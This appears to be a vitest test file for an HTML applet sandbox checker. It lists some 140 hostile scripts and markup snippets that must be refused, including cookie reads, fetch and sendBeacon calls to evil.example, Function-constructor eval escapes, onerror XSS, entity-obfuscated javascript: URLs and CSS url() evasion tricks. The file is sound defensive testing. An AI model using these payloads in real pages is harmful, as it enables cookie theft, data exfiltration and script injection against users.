// The three layers of an applet's check: what is refused, where, and what of the same kind goes on.
import { describe, expect, test } from 'vitest';
import { MOST_APPLET_BYTES, checkApplet } from '#engines/maker/check/check.ts';

const page = (script: string, body = '<div id="app"></div>', head = ''): string =>
  `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>t</title>${head}</head>
<body>${body}
<script>
${script}
</script></body></html>`;
const codesOf = (html: string): readonly string[] => checkApplet(html).findings.map(({ code }) => code);

const HOSTILE_SCRIPTS = [
  `fetch('https://evil.example/')`,
  `window['fet' + 'ch']('https://evil.example/')`,
  `const { fetch: f } = window; f('https://evil.example/')`,
  `self.fetch('/')`,
  `globalThis.fetch('/')`,
  `new XMLHttpRequest()`,
  `new WebSocket('wss://evil.example')`,
  `new Image().src = 'https://evil.example/'`,
  `localStorage.setItem('a', 'b')`,
  `document.cookie`,
  `const k = 'coo' + 'kie'; document[k]`,
  `const d = document; d.cookie`,
  `window.parent.postMessage('x', '*')`,
  `parent.location = 'https://evil.example/'`,
  `top.location = 'https://evil.example/'`,
  `location = 'https://evil.example/'`,
  `location.href = 'https://evil.example/'`,
  `document.location = 'https://evil.example/'`,
  `var location = 'https://evil.example/'`,
  `{ var name = 'x' }`,
  `history.pushState({}, '', '/x')`,
  `open('https://evil.example/')`,
  `eval('1')`,
  `(0, eval)('1')`,
  `Function('alert(1)')()`,
  `new Function('alert(1)')()`,
  `(() => {}).constructor('alert(1)')()`,
  `[].constructor.constructor('alert(1)')()`,
  `[]['constructor']['constructor']('alert(1)')()`,
  `const { constructor: C } = (() => {}); C('alert(1)')()`,
  `const { constructor } = 'x'; `,
  `const k = 'constructor'; DATA[k][k]('alert(1)')()`,
  `const k = 'constructor'; const F = DATA[k][k]; F('alert(1)')()`,
  `const k = 'constructor'; ['alert(1)'].map(DATA[k][k]).forEach((f) => f())`,
  `const k = 'constructor'; const o = { run: DATA[k][k] }; o.run('alert(1)')()`,
  `const k = 'constructor'; const o = { map: DATA[k][k] }; o.map('alert(1)')()`,
  `const go = (f) => f('alert(1)'); go(DATA['const' + 'ructor'])`,
  `const f = (a = fetch) => { var fetch; return a('/'); }; f()`,
  `{ function fetch() {} } fetch('/')`,
  `{ fetch('/'); { const fetch = 1; } }`,
  `setTimeout('alert(1)', 1)`,
  `setInterval('ale' + 'rt(1)', 1)`,
  `const s = setTimeout; s('alert(1)')`,
  `['alert(1)'].forEach(setTimeout)`,
  `setTimeout(DATA.code)`,
  `import('https://evil.example/x.js')`,
  `new Worker('x.js')`,
  `new SharedWorker('x.js')`,
  `navigator.sendBeacon('https://evil.example')`,
  `navigator.serviceWorker.register('x.js')`,
  `Reflect.get(document, 'defaultView')`,
  `Object.getPrototypeOf(document.body)`,
  `Object.assign(document.body, { innerHTML: '<img src=x onerror=alert(1)>' })`,
  `Object.defineProperty(DATA, 'x', { get: () => 1 })`,
  `({ get x() { return 1; } })`,
  `({ __proto__: document })`,
  `({}).__proto__`,
  `this.fetch('/')`,
  `(function () { return this; })().fetch('/')`,
  `function f() { return arguments.callee.caller; }`,
  `with (document) { cookie }`,
  `a: for (;;) { break a; }`,
  'const t = (s) => s; t`x`',
  `[].map.call\`x\``,
  `class A { constructor() { this.x = 1; } }`,
  `async function f() { await 1; }`,
  `function* g() { yield 1; }`,
  `document.body.innerHTML = '<img src=x onerror=alert(1)>'`,
  `document.body.outerHTML = ''`,
  `document.body.insertAdjacentHTML('beforeend', '<b>')`,
  `document.write('<b>')`,
  `document.createElement('script')`,
  `document.createElement('if' + 'rame')`,
  `document.createElement('link')`,
  `document.createElement('b', { is: 'x' })`,
  `document.createElementNS('http://www.w3.org/2000/svg', 'script')`,
  `const e = document.createElement('div'); e.setAttribute('onclick', 'alert(1)')`,
  `const e = document.createElement('div'); const a = 'style'; e.setAttribute(a, 'background:url(//x)')`,
  `const e = document.createElement('a'); e.href = 'https://evil.example/'; e.click()`,
  `const e = document.createElement('div'); e.onclick = () => {}`,
  `const e = document.createElement('div'); e['on' + 'click'] = () => {}`,
  `const e = document.createElement('div'); e.style = 'background:url(//evil.example)'`,
  `const e = document.createElement('div'); e.style.background = 'url(//evil.example)'`,
  `const e = document.createElement('div'); e.style.cssText = 'background:url(//evil.example)'`,
  `const e = document.createElement('div'); e.style.setProperty('background', 'url(//evil.example)')`,
  `document.querySelector('style').textContent = '@import url(//evil.example)'`,
  `document.querySelector('head > *').textContent = 'x'`,
  `document.querySelector('[name]').nextElementSibling.textContent = 'x'`,
  `document.querySelector(':root')`,
  `document.body.addEventListener('click', (e) => e.view.fetch('/'))`,
  `document.body.addEventListener('click', (e) => e.target.ownerDocument.defaultView)`,
  `document.body.addEventListener('click', (e) => e.composedPath())`,
  `document.body.addEventListener('click', ({ view }) => view)`,
  `document.body.addEventListener('click', ({ ['view']: v }) => v)`,
  `document.body.addEventListener('message', () => {})`,
  `document.body.addEventListener('click', { handleEvent: DATA.x })`,
  `document.addEventListener('DOMContentLoaded', (e) => e.target)`,
  `addEventListener('message', (e) => e.source)`,
  `document.defaultView`,
  `document.body.parentNode.parentNode`,
  `try { null.x } catch (e) { e.stack }`,
  `DATA.rows[0].constructor`,
  `const { rows: { constructor: c } } = DATA;`,
  `const o = {}; o['__proto__']['innerHTML'] = 'x'`,
  `const o = {}; const k = '__proto__'; o[k].x_ = 'y'; o[k][k] = 1`,
  `performance.getEntries()`,
  `document.body.attachShadow({ mode: 'open' })`,
  `const e = document.createElement('canvas').getContext('webgl')`,
  `const e = document.createElement('canvas').toDataURL()`,
  `alert(1)`,
  `prompt('x')`,
  `crypto.getRandomValues(new Uint8Array(1))`,
  `indexedDB.open('x')`,
  `caches.open('x')`,
  `new BroadcastChannel('x')`,
  `new RTCPeerConnection()`,
  `new EventSource('/')`,
  `structuredClone(DATA)`,
  `queueMicrotask(() => {})`,
  `Promise.resolve().then(() => {})`,
  `new Proxy({}, {})`,
  `document = 1`,
  `Math.max = DATA.x`,
  `DATA = 1`,
  `undeclared = 1`,
  `Symbol.iterator`,
  `String.raw`,
  `'x'.link('javascript:alert(1)').anchor`,
  `const { createElement } = document;`,
  `const q = document.createElement;`,
  `const c = document?.cookie;`,
  `document?.['cookie']`,
  `document.body.getRootNode().defaultView`,
  `document.forms`,
  `document.scripts[0].text`,
  `document.all`,
  `document.domain = 'x'`,
  `document.execCommand('insertHTML', false, '<img>')`,
  `if (false) function fetch() {} fetch('/')`,
  `{ function onmessage(e) { console.log(e.source); } }`,
  `switch (1) { case 1: function location() {} }`,
] as const;

const BENIGN_SCRIPTS = [
  `const rows = DATA.rows.map((row) => row[0].value); document.getElementById('app').textContent = rows.join(', ')`,
  `let dir = 1; const sorted = [...DATA].sort((a, b) => (a.price - b.price) * dir); console.log(sorted.length)`,
  `const state = { sortKey: 'price', dir: 1 };
   function draw(key) { const list = DATA.filter((row) => row[key] !== null); const p = document.createElement('p'); p.textContent = String(list.length); document.body.append(p); }
   const button = document.createElement('button'); button.textContent = 'Sort';
   button.addEventListener('click', () => { state.dir = -state.dir; draw(state.sortKey); }); document.body.append(button);`,
  `for (const row of DATA.rows) { const tr = document.createElement('tr'); for (const cell of row) { const td = document.createElement('td'); td.textContent = cell.value ?? ''; tr.append(td); } document.querySelector('#app').append(tr); }`,
  `for (let i = 0; i < DATA.rows.length; i++) { const row = DATA.rows[i]; console.log(row[0]); }`,
  `const counts = {}; for (const row of DATA) counts[row.brand] = (counts[row.brand] ?? 0) + 1; console.log(Object.entries(counts));`,
  `const canvas = document.createElement('canvas'); canvas.width = 300; const ctx = canvas.getContext('2d'); ctx.fillStyle = '#336'; DATA.rows.forEach((row, i) => ctx.fillRect(i * 10, 0, 8, row[1].value)); document.body.append(canvas);`,
  `const money = new Intl.NumberFormat('en', { style: 'currency', currency: 'EUR' }); document.title = money.format(3);`,
  `document.addEventListener('DOMContentLoaded', () => { document.body.classList.add('ready'); });`,
  `const search = document.getElementById('app'); search.addEventListener('input', (event) => { const words = event.target.value.toLowerCase().trim(); document.querySelectorAll('.card').forEach((card) => { card.hidden = !card.textContent.toLowerCase().includes(words); }); });`,
  `setTimeout(() => console.log('later'), 100); requestAnimationFrame(tick); function tick() {}`,
  `const by = new Map(); DATA.rows.forEach((row) => by.set(row[0].value, row)); console.log(by.get('x'));`,
  `document.body.addEventListener('keydown', (e) => { if (e.key === 'Escape') e.preventDefault(); });`,
  `const th = document.createElement('th'); th.setAttribute('aria-sort', 'ascending'); th.scope = 'col'; th.dataset.column = '1'; th.style.color = 'red';`,
  `const numbers = DATA.map((row) => row.price).map(Number).filter(Boolean); const best = Math.max(...numbers); const { price, name: title } = DATA[0]; console.log(best, price, title);`,
  `(function () { const x = DATA.length > 2 ? 'many' : 'few'; switch (x) { case 'many': break; default: } })();`,
] as const;

describe('an applet’s script', () => {
  test.each(HOSTILE_SCRIPTS)('is refused: %s', (script) => {
    const verdict = checkApplet(page(script));
    expect(verdict.accepted).toBe(false);
    expect(verdict.findings.every(({ layer, line }) => layer === 'code' && line >= 4)).toBe(true);
  });

  test.each(BENIGN_SCRIPTS)('is accepted: %s', (script) => {
    expect(checkApplet(page(script)).findings).toEqual([]);
  });

  test('a finding names the line and the column in the document', () => {
    const html = page(`const a = 1;\n  fetch(a)`);
    const [finding] = checkApplet(html).findings;
    expect(finding).toMatchObject({ layer: 'code', code: 'code.global', line: 6, column: 3 });
    expect(html.split('\n')[5]?.slice(2)).toBe('fetch(a)');
  });
});

describe('an applet’s markup', () => {
  test.each([
    ['an event attribute', '<button onclick="x()">b</button>', 'markup.event-attribute'],
    ['an event attribute in other letters', '<button ONCLICK="x()">b</button>', 'markup.event-attribute'],
    ['a frame', '<iframe></iframe>', 'markup.element'],
    ['a frame with a document', '<iframe srcdoc="x"></iframe>', 'markup.element'],
    ['an object', '<object data="x"></object>', 'markup.element'],
    ['an embed', '<embed src="x">', 'markup.element'],
    ['a form', '<form action="https://evil.example"></form>', 'markup.element'],
    ['SVG', '<svg><script>1</script></svg>', 'markup.foreign'],
    ['MathML', '<math><mtext></mtext></math>', 'markup.foreign'],
    ['a link out', '<a href="https://evil.example">x</a>', 'markup.value'],
    ['a script address', '<a href="java&#115;cript:alert(1)">x</a>', 'markup.value'],
    ['a ping', '<a href="#x" ping="https://evil.example">x</a>', 'markup.attribute'],
    ['a foreign picture', '<img src="https://evil.example/x.png" alt="">', 'markup.value'],
    ['an SVG picture', '<img src="data:image/svg+xml;base64,AAAA" alt="">', 'markup.value'],
    ['a source set', '<img srcset="https://evil.example/x.png 1x" alt="">', 'markup.attribute'],
    ['a template', '<template><b></b></template>', 'markup.element'],
    ['a shadow root', '<div><template shadowrootmode="open"></template></div>', 'markup.element'],
    ['an inline address', '<p style="background: url(//evil.example)">x</p>', 'style.function'],
    ['a submit button’s address', '<button formaction="https://evil.example">x</button>', 'markup.attribute'],
    ['a file field', '<input type="file">', 'markup.value'],
    ['video', '<video src="https://evil.example"></video>', 'markup.element'],
    ['a portal of marquee', '<marquee>x</marquee>', 'markup.element'],
    ['a noscript', '<noscript><p>x</p></noscript>', 'markup.element'],
    ['an attribute written twice', '<p id="a" id="b">x</p>', 'markup.duplicate-attribute'],
  ])('is refused with %s', (_, body, code) => {
    expect(codesOf(page('', body))).toContain(code);
  });

  test.each([
    ['a base', '<base href="https://evil.example/">', 'markup.element'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', 'markup.http-equiv'],
    [
      'a policy of its own',
      `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
      'markup.http-equiv',
    ],
    ['a link element', '<link rel="preconnect" href="https://evil.example">', 'markup.element'],
    ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>', 'markup.attribute'],
    ['a module', '<script type="module">1</script>', 'markup.attribute'],
    ['speculation rules', '<script type="speculationrules">{}</script>', 'markup.attribute'],
    ['an import of styles', '<style>@import "x.css";</style>', 'style.at-rule'],
    ['an address in a style', '<style>p { background: url("x") }</style>', 'style.function'],
    ['an address without its letters', '<style>p { background: \\75rl(x) }</style>', 'style.escape'],
    ['an address behind a comment', '<style>p { background: u/**/rl(x) }</style>', 'style.function'],
    ['a set of pictures', '<style>p { background: image-set("x" 1x) }</style>', 'style.function'],
    ['an expression', '<style>p { width: expression(alert(1)) }</style>', 'style.function'],
    ['a font', '<style>@font-face { font-family: x; src: local(x) }</style>', 'style.at-rule'],
    ['a behaviour', '<style>p { behavior: x }</style>', 'style.property'],
    [
      'a string that a form feed ends',
      '<style>p{color:"\f" /* ";} p{background:url(https://evil.example/x);} /* */</style>',
      'style.line',
    ],
    [
      'a string that its line does not close',
      `<style>p{content:"\n" /* ";} p{color:red} /* */</style>`,
      'style.open-string',
    ],
    ['a string that stays open', `<style>p{content:'x}</style>`, 'style.open-string'],
    ['a style that scripts would find', '<style id="s">p { color: red }</style>', 'markup.attribute'],
  ])('is refused with %s in its head', (_, head, code) => {
    expect(codesOf(page('', '', head))).toContain(code);
  });

  test('is accepted with a style of closed strings, comments between and line ends of two signs', () => {
    const style = `<style>p::before{content:"/* '";}\r\n/* it’s "x" */\r\np::after{content:'"'}</style>`;
    expect(checkApplet(page('', '', style)).findings).toEqual([]);
  });

  test('is refused without a doctype and when it is half a document', () => {
    expect(codesOf('<p>x</p>')).toContain('markup.missing-doctype');
    expect(checkApplet('<!doctype html><html><head><title>x</title></head><body><div class="').accepted).toBe(
      false,
    );
  });

  test('is accepted with tables, lists, controls, styles and a picture of its own', () => {
    const head =
      '<style>@media (prefers-color-scheme: dark) { body { color: rgb(1 2 3) } } .a:not(.b) > p::before { content: "–"; width: calc(1px + 2px) }</style>';
    const body = `<main><h1>x</h1><table><caption>c</caption><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>
      <label for="q">q</label><input id="q" type="search"><button type="button" aria-pressed="false" data-x="1">b</button>
      <a href="#top">top</a><p style="color: red">x</p><img alt="" src="data:image/png;base64,iVBORw0KGgo="></main>`;
    expect(checkApplet(page('', body, head)).findings).toEqual([]);
  });
});

describe('an applet’s scripts', () => {
  const FILL = `document.body.firstElementChild.textContent = "location='https://evil.example/?'"`;
  test.each([
    ['without text, which a later one fills', '<script></script>', FILL],
    [
      'without text, to which one appends',
      '<script></script>',
      `document.body.firstElementChild.append("location='/'")`,
    ],
  ])('are refused where one stands %s', (_, body, script) => {
    expect(codesOf(page(script, body))).toContain('markup.empty-script');
  });

  test('are refused where one follows the code: it could be written into, or see what that declares', () => {
    const late = page('const a = 1; console.log(a);', `<script>const Math = { floor: () => 'x' };</script>`);
    expect(codesOf(late)).toContain('markup.script-order');
    const data = page('const DATA = [1];', '<script>setTimeout(() => console.log(1), 1);</script>');
    expect(codesOf(data)).toContain('markup.script-order');
  });

  test('are accepted as data and the code behind it, in the head or in the body', () => {
    const code = `while (document.body.firstChild) document.body.firstChild.remove(); document.title = String(DATA.length);`;
    expect(codesOf(page(code, '<p>x</p>', '<script>const DATA = [1];</script>'))).toEqual([]);
    expect(codesOf(page(' ', '<p>x</p>'))).toEqual([]);
    expect(codesOf(page(code, '<p>x</p><script>const DATA = [1];</script>'))).toEqual([]);
    const inHead = `<script>document.addEventListener('DOMContentLoaded', () => { document.title = 'x'; });</script>`;
    expect(codesOf(`<!doctype html><html><head>${inHead}</head><body></body></html>`)).toEqual([]);
  });
});

describe('an applet’s size', () => {
  const withText = (bytes: number): string => {
    const empty = page('', '<p></p>');
    return page('', `<p>${'é'.repeat((bytes - empty.length) / 2)}</p>`);
  };

  test('is counted in bytes of UTF-8: 100 KB pass, one letter more does not', () => {
    const even = (MOST_APPLET_BYTES - page('', '<p></p>').length) % 2;
    const most = withText(MOST_APPLET_BYTES - even);
    expect(checkApplet(most)).toMatchObject({ accepted: true, findings: [] });
    expect(codesOf(withText(MOST_APPLET_BYTES - even + 2))).toEqual(['size.too-large']);
  });
});
